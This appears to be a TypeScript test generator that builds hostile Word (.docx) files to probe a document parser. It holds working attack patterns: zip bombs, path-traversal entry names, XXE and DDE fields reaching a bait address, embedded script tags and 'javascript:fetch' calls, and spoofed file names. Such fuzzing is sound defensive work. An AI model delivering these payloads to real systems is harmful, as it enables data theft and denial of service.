import { Buffer } from 'node:buffer'
import { commentMakers } from './crafted-comments.ts'
import { documentXml, line, packageOf, part, plainParts, relationship, relationships, word } from './package-parts.ts'
import { rawZip } from './raw-zip.ts'

/** Where a hostile file may try to reach: a folder of bait and an address that somebody listens at. */
export interface Bait {
  readonly folder: string
  /** `http://host:port/…` */
  readonly address: string
}

/** A crafted file; `kind` names its class. */
export interface CraftedFile {
  readonly kind: string
  readonly name: string
  readonly bytes: Uint8Array
}

/** One class of attack: makes its `turn`-th file, each another one. */
type Maker = (turn: number, bait: Bait) => Uint8Array

const filler = (size: number) => Buffer.alloc(size, 0x20)
const pick = <T>(items: readonly T[], turn: number) => items[turn % items.length] as T
const run = (inner: string) => `<w:p><w:r>${inner}</w:r></w:p>`
const field = (code: string) =>
  run(`<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r>
    <w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>结果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>`)

/** A whole plain file whose bytes from a place on are overwritten by what a fixed sequence gives. */
function noisy(turn: number, share: number): Uint8Array {
  const bytes = packageOf()
  let state = turn * 2654435761 + 12345
  for (let hit = 0; hit < Math.max(1, bytes.length * share); hit++) {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0
    bytes[state % bytes.length] = state >>> 24
  }
  return bytes
}

/** What `letters` gave once: making it takes long, and memory that would be put down to the import. */
let noise = ''

/** Letters and digits that hardly compress. */
function letters(count: number): string {
  const pieces: string[] = []
  let state = count
  for (let length = 0; length < count; length += 6) {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0
    pieces.push(state.toString(36).padStart(6, '0').slice(-6))
  }
  return pieces.join('')
}

const escapes = (bait: Bait) => [
  `../../../../../../../..${bait.folder}/slip`,
  `${bait.folder}/slip`,
  '..\\..\\slip',
  'word/../../slip',
  'C:\\slip',
  '\\\\host\\share\\slip',
  '__proto__',
  'constructor/prototype',
  'word/\u0000slip',
  `word/${'长'.repeat(5000)}`,
]

const outside = (bait: Bait) => [
  `${bait.address}/a`,
  `file://${bait.folder}/bait.txt`,
  `${bait.folder}/bait.txt`,
  `\\\\127.0.0.1\\share\\bait`,
  `mhtml:${bait.address}/a!x`,
  `javascript:fetch('${bait.address}')`,
  '/dev/zero',
]
const externalTypes = [
  'attachedTemplate',
  'image',
  'oleObject',
  'subDocument',
  'frame',
  'hyperlink',
  'styles',
  'footer',
]

/** Every class of attack of a Word file from a stranger. */
export const makers: Readonly<Record<string, Maker>> = {
  'flat bomb': turn =>
    packageOf([
      part(pick(['word/document.xml', 'word/styles.xml', '_rels/.rels'], turn), filler(3_000_000 * ((turn % 5) + 1))),
    ]),
  'bomb that lies of its size': turn =>
    rawZip(
      plainParts([
        { ...part('word/document.xml', filler(4_000_000 * ((turn % 3) + 1))), declaredSize: (turn % 7) + 1 },
      ]),
    ),
  'entries that share their bytes': turn =>
    rawZip([
      ...plainParts([part('word/document.xml', filler(2_000_000))]),
      ...Array.from({ length: (turn % 400) + 10 }, (_, at) => ({ ...part(`x/${at}`, ''), sharesWith: 4 })),
    ]),
  'nested archive': turn => packageOf([part(`word/embeddings/inner${turn}.docx`, packageOf())], run('<w:object/>')),
  'too many entries': turn =>
    rawZip([...plainParts(), ...Array.from({ length: 1_900 + (turn % 50) * 20 }, (_, at) => part(`x/${at}`, ''))]),
  'entries declared wrong': turn => rawZip(plainParts(), { declaredEntries: pick([0, 1, 4, 6, 2_001, 65_535], turn) }),
  'names that climb out': (turn, bait) => packageOf([part(pick(escapes(bait), turn), `slip ${turn}`)]),
  'parts that climb out': (turn, bait) =>
    packageOf([
      part(
        '_rels/.rels',
        relationships(relationship('officeDocument', pick(escapes(bait), turn).replaceAll('\0', ''))),
      ),
    ]),
  'entry twice': turn => {
    const twice = pick(['word/document.xml', '[Content_Types].xml', '_rels/.rels'], turn)
    return rawZip([...plainParts(), part(twice, documentXml(line(`另一份正文${turn}`)))])
  },
  'entry encrypted': turn =>
    rawZip(
      plainParts().map((entry, at) => (at === turn % 5 ? { ...entry, flags: pick([1, 65, 0x2001], turn) } : entry)),
    ),
  'wrapped as an encrypted file': turn => {
    const bytes = Buffer.alloc(4096 + turn * 8)
    Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(bytes)
    bytes.write('EncryptedPackage', 512 + turn, 'utf16le')
    return bytes
  },
  'unknown compression': turn =>
    rawZip(plainParts().map(entry => ({ ...entry, method: pick([1, 6, 9, 12, 14, 95, 99], turn) }))),
  'broken compression': turn =>
    rawZip(plainParts([{ ...part('word/document.xml', 'x'), packed: noisy(turn, 1).subarray(0, 20 + turn) }])),
  'cut short': turn => packageOf().subarray(0, 4 + turn * 13),
  'bytes in front and behind': turn =>
    Buffer.concat([filler((turn % 3) * 70_000), packageOf(), filler((turn % 7) * 11_000)]),
  'noise in one byte': turn => noisy(turn, 0),
  'noise all over': turn => noisy(turn, 0.02),
  'entities that expand': turn => {
    const levels = Array.from({ length: 4 + (turn % 12) }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`)
    return packageOf([
      part(
        'word/document.xml',
        documentXml(line(`&e${levels.length};`)).replace('?>', `?><!DOCTYPE w [<!ENTITY e0 "文">${levels.join('')}]>`),
      ),
    ])
  },
  'entities from outside': (turn, bait) =>
    packageOf([
      part(
        pick(['word/document.xml', 'word/styles.xml', '_rels/.rels'], turn),
        `<!DOCTYPE w [<!ENTITY ${pick(['', '% '], turn)}x SYSTEM "${pick(outside(bait), turn)}">]>${documentXml(line('&x;')).replace(/^.*?\?>/u, '')}`,
      ),
    ]),
  'entities unknown or numeric': turn =>
    packageOf([
      part(
        'word/document.xml',
        documentXml(line(pick(['&lol;', '&#0;', '&#xFFFE;', '&#x41;'.repeat(20_000), '&#xD800;'], turn))),
      ),
    ]),
  'nested without end': turn =>
    packageOf([
      part(
        'word/document.xml',
        documentXml(
          pick(['<w:r>', '<w:tbl><w:tr><w:tc>', '<w:p><w:r><w:txbxContent>', '<w:del>', '<x>'], turn).repeat(
            300 * ((turn % 30) + 1),
          ),
        ),
      ),
    ]),
  'nested and closed': turn => {
    const depth = 20 * ((turn % 30) + 1)
    return packageOf([], `${'<w:tbl><w:tr><w:tc>'.repeat(depth)}${line('深')}${'</w:tc></w:tr></w:tbl>'.repeat(depth)}`)
  },
  'broken XML': turn =>
    packageOf([
      part(
        'word/document.xml',
        documentXml(line('文')).slice(0, -1 - turn * 3) + pick(['', '<', '&', ']]>', '<!--', '<![CDATA['], turn),
      ),
    ]),
  'huge attribute': turn => packageOf([], `<w:p w:rsidR="${'A'.repeat(200_000 * ((turn % 8) + 1))}"/>`),
  'many attributes': turn =>
    packageOf([], `<w:p ${Array.from({ length: 800 * ((turn % 8) + 1) }, (_, at) => `a${at}="1"`).join(' ')}/>`),
  'other encodings': turn => {
    const xml = documentXml(line('文'))
    return packageOf([
      part(
        'word/document.xml',
        pick<() => string | Uint8Array>(
          [
            () => Buffer.from(`\ufeff${xml}`, 'utf16le'),
            () => xml.replace('UTF-8', 'UTF-7'),
            () => xml.replace('UTF-8', 'GB18030'),
            () => xml.replace('UTF-8', 'x-none'),
            () => `\ufeff${xml}`,
            () => Buffer.from(xml, 'latin1'),
            () => Buffer.from(xml, 'utf16le').swap16(),
          ],
          turn,
        )(),
      ),
    ])
  },
  'characters that XML forbids': turn =>
    packageOf([
      part(
        'word/document.xml',
        documentXml(line(`文${String.fromCharCode(pick([0, 1, 11, 0xfffe, 0xffff, 0xd800, 27], turn))}`)),
      ),
    ]),
  'bytes that are no UTF-8': turn =>
    packageOf([
      part('word/document.xml', Buffer.concat([Buffer.from(documentXml('')), Buffer.from([0xc0 + (turn % 60), 0x80])])),
    ]),
  'wrong content types': turn =>
    packageOf([part('[Content_Types].xml', pick(['', '<x/>', '<Types', '{}', '\u0000'], turn))]),
  'parts missing': turn => rawZip(plainParts().filter((_, at) => at !== turn % 5)),
  'relations in a circle': turn =>
    packageOf([
      part(
        'word/_rels/document.xml.rels',
        relationships(
          pick(['styles', 'numbering', 'footer', 'header'], turn) === 'x'
            ? ''
            : relationship(pick(['styles', 'numbering', 'footer', 'header'], turn), 'document.xml'),
        ),
      ),
    ]),
  'external relations': (turn, bait) =>
    packageOf(
      [
        part(
          'word/_rels/document.xml.rels',
          relationships(relationship(pick(externalTypes, turn), pick(outside(bait), turn >> 3), 'External')),
        ),
      ],
      pick(
        [
          '<w:hyperlink r:id="r9"><w:r><w:t>链接文字</w:t></w:r></w:hyperlink>',
          run('<w:drawing r:link="r9"/>'),
          '<w:subDoc r:id="r9"/>',
          '<w:altChunk r:id="r9"/>',
        ],
        turn,
      ),
    ),
  'document outside': (turn, bait) =>
    packageOf([
      part(
        '_rels/.rels',
        relationships(relationship('officeDocument', pick(outside(bait), turn), pick(['External', 'Internal'], turn))),
      ),
    ]),
  'fields that act': (turn, bait) =>
    packageOf(
      [],
      field(
        `${pick(['DDEAUTO', 'DDE', 'INCLUDEPICTURE', 'INCLUDETEXT', 'HYPERLINK', 'LINK', 'IMPORT', 'AUTOTEXT'], turn)} "${pick(outside(bait), turn)}"`,
      ),
    ),
  'simple fields that act': (turn, bait) =>
    packageOf(
      [],
      `<w:p><w:fldSimple w:instr='HYPERLINK "${pick(outside(bait), turn)}"'><w:r><w:t>字</w:t></w:r></w:fldSimple></w:p>`,
    ),
  macros: turn =>
    packageOf([
      part(pick(['word/vbaProject.bin', 'word/vbaData.xml', 'word/activeX/activeX1.bin'], turn), noisy(turn, 1)),
    ]),
  'embedded pages': (turn, bait) =>
    packageOf(
      [
        part('word/_rels/document.xml.rels', relationships(relationship('aFChunk', 'chunk.htm'))),
        part('word/chunk.htm', `<script src="${bait.address}"></script><img src="${pick(outside(bait), turn)}">`),
      ],
      '<w:altChunk r:id="r9"/>',
    ),
  'pictures that burst': turn => {
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452000075300000753008060000', 'hex')
    return packageOf([part(`word/media/image1.${pick(['png', 'emf', 'wmf', 'svg'], turn)}`, png)], run('<w:drawing/>'))
  },
  'huge table': turn =>
    packageOf(
      [],
      `<w:tbl>${`<w:tr>${'<w:tc><w:p/></w:tc>'.repeat(1 + ((turn * 37) % 600))}</w:tr>`.repeat(20 + (turn % 10) * 30)}</w:tbl>`,
    ),
  'absurd spans': turn =>
    packageOf(
      [],
      `<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="${pick(['2147483647', '-1', '1e9', 'NaN', ''], turn)}"/></w:tcPr>${line('甲')}</w:tc></w:tr></w:tbl>`.repeat(
        3,
      ),
    ),
  'absurd numbering': turn =>
    packageOf(
      [
        part('word/_rels/document.xml.rels', relationships(relationship('numbering', 'numbering.xml'))),
        part(
          'word/numbering.xml',
          `<w:numbering xmlns:w="${word}"><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="${pick(['1e308', '-5', '999999999999', 'x', '0'], turn)}"/><w:numFmt w:val="${pick(['lowerRoman', 'chineseCounting', 'upperLetter', 'x', 'decimal'], turn >> 1)}"/><w:lvlText w:val="${'%1'.repeat(1 + (turn % 50))}"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`,
        ),
      ],
      `<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>项</w:t></w:r></w:p>`.repeat(
        20,
      ),
    ),
  'styles in a circle': turn =>
    packageOf(
      [
        part(
          'word/styles.xml',
          `<w:styles xmlns:w="${word}">${Array.from({ length: 500 }, (_, at) => `<w:style w:type="paragraph" w:styleId="s${at}"><w:name w:val="s${at}"/><w:basedOn w:val="s${(at + 1 + turn) % 500}"/></w:style>`).join('')}</w:styles>`,
        ),
      ],
      '<w:p><w:pPr><w:pStyle w:val="s1"/></w:pPr><w:r><w:t>文</w:t></w:r></w:p>',
    ),
  'comments without end': turn =>
    packageOf(
      [
        part('word/_rels/document.xml.rels', relationships(relationship('comments', 'comments.xml'))),
        part(
          'word/comments.xml',
          `<w:comments xmlns:w="${word}">${Array.from({ length: 300 * ((turn % 9) + 1) }, (_, at) => `<w:comment w:id="${pick(['0', String(at), '', '__proto__'], turn)}" w:author="${pick(['人', '\u202e', '人'.repeat(9_000)], turn)}">${line('话'.repeat(turn * 40))}</w:comment>`).join('')}</w:comments>`,
        ),
      ],
      Array.from(
        { length: 2_000 },
        (_, at) =>
          `<w:p><w:commentRangeStart w:id="${at}"/><w:r><w:t>长文</w:t></w:r><w:r><w:commentReference w:id="${at}"/></w:r></w:p>`,
      ).join(''),
    ),
  ...commentMakers,
  'changes that do not fit': turn =>
    packageOf(
      [],
      pick(
        [
          '<w:ins><w:del>',
          '<w:p><w:pPr><w:rPr><w:del/><w:ins/></w:rPr></w:pPr>',
          '<w:moveFrom><w:ins>',
          '<w:tr><w:trPr><w:del/>',
        ],
        turn,
      ).repeat(turn * 7) + line('文').repeat(turn),
    ),
  'memory in great steps': turn => {
    noise ||= letters(4_500_000)
    const inner = pick<(text: string) => string>(
      [
        text => line(text),
        text => `<!--${text}-->`,
        text => `<w:p a="${text}"/>`,
        text => `<w:p>${text.replace(/.{9}/gu, '<w:r/>')}</w:p>`,
      ],
      turn,
    )
    return packageOf([], inner(noise))
  },
  'text that turns around': turn =>
    packageOf([], line(`附件\u202e${pick(['fdp.exe', 'cod.', '\u2066x\u2069'], turn)}\u200b\u200f`)),
  'one endless paragraph': turn =>
    packageOf([], line(pick(['（', '一、', ' ', '1.', '附件：', '《'], turn).repeat(20_000 * ((turn % 6) + 1)))),
  'very many paragraphs': turn => packageOf([], line('短').repeat(4_000 * ((turn % 6) + 1))),
  'scripts in text': turn => packageOf([], line(pick(['&lt;b&gt;粗&lt;/b&gt;', '=1+1', '{PAGE}', '__proto__'], turn))),
  'not a package': turn =>
    Buffer.concat([
      Buffer.from(pick(['PK\u0003\u0004', 'PK\u0005\u0006', '\u007fELF', '{\\rtf1', '<html>'], turn)),
      filler(turn * 31),
    ]),
}

/** `each` files of every class. */
export function* craftedFiles(each: number, bait: Bait): Generator<CraftedFile> {
  for (const [kind, make] of Object.entries(makers)) {
    for (let turn = 0; turn < each; turn++) yield { kind, name: `${kind} ${turn}.docx`, bytes: make(turn, bait) }
  }
}
